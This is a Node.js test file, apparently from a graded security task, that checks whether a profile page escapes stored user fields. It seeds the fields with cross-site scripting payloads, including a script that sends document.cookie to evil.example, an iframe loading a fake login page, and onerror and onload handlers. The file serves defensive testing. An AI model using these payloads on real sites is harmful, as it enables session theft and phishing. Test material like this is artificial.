'use strict';
const { test } = require('node:test');
const assert = require('node:assert/strict');
const path = require('node:path');
const { mockReq, invoke } = require('_testkit');

const mod = require(path.resolve(__dirname, process.env.CASE_MODULE || 'app.js'));

// Every real tag in the page; escaped text contains no '<' and so yields none.
const tags = (html) => [...html.matchAll(/<([a-zA-Z][\w-]*)([^>]*)>/g)].map((m) => ({ name: m[1].toLowerCase(), attrs: m[2] }));
const TEMPLATE_TAGS = new Set(['html', 'head', 'meta', 'title', 'body', 'h1', 'p', 'ul', 'li', 'section']);

const FIELDS = {
  displayName: '</title><script>fetch("//evil.example/?c="+document.cookie)</script>',
  headline: '<img src=x onerror=alert(document.domain)>',
  bio: '<iframe src="https://evil.example/login"></iframe>',
  subjects: ['Algebra', '<svg onload=alert(1)>'],
};

for (const [field, value] of Object.entries(FIELDS)) {
  test(`stored ${field} is not rendered as live markup`, async () => {
    const handle = `mallory-${field}`;
    mod.store.save({ handle, displayName: 'Mallory', headline: 'x', subjects: [], hourlyRateCents: 100, bio: '', [field]: value });
    const { res } = await invoke(mod.profilePage, mockReq({ params: { handle } }));
    for (const tag of tags(String(res.body))) {
      assert.ok(TEMPLATE_TAGS.has(tag.name), `injected <${tag.name}> element`);
      assert.doesNotMatch(tag.attrs, /\bon\w+\s*=/i, `event handler on <${tag.name}>`);
    }
    assert.equal(String(res.body).match(/<\/title>/g).length, 1, 'title element was closed early');
  });
}
